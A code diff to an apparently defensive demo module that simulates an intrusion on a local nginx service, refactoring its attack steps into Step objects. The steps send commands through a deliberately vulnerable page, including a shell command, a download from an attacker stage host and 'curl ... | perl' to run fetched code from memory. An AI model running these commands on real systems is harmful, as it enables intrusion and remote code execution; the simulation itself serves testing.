@@ -6,11 +6,13 @@ import random
 import threading
 import time
 import urllib.parse
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
+from contextlib import contextmanager
+from functools import partial
 from pathlib import Path
 
 from baseline.demo.attacker import attacker
-from baseline.demo.service import Service
+from baseline.demo.service import Service, Step
 
 _CONFIGURATION = """
 load_module /usr/lib/nginx/modules/ngx_http_perl_module.so;
@@ -100,15 +102,21 @@ class Nginx(Service):
                 connection = None
             time.sleep(_PAUSE * choose.expovariate(1))
 
-    def intrusion(self) -> Iterator[str]:
+    @contextmanager
+    def intrusion(self) -> Iterator[Sequence[Step]]:
         """Through the hole in the page: a shell, a download, a program run from memory."""
         with attacker() as stage:
-            yield "asks the page to run a shell command"
-            self._exploit("id")
-            yield f"downloads a tool from {stage}"
-            self._exploit(f"curl -s -o /dev/null {stage}")
-            yield "runs a program from memory that is in no file"
-            self._exploit(f"curl -s {stage} | perl")
+            yield [
+                Step("asks the page to run a shell command", partial(self._exploit, "id")),
+                Step(
+                    f"downloads a tool from {stage}",
+                    partial(self._exploit, f"curl -s -o /dev/null {stage}"),
+                ),
+                Step(
+                    "runs a program from memory that is in no file",
+                    partial(self._exploit, f"curl -s {stage} | perl"),
+                ),
+            ]
 
     def _exploit(self, command: str) -> None:
         connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
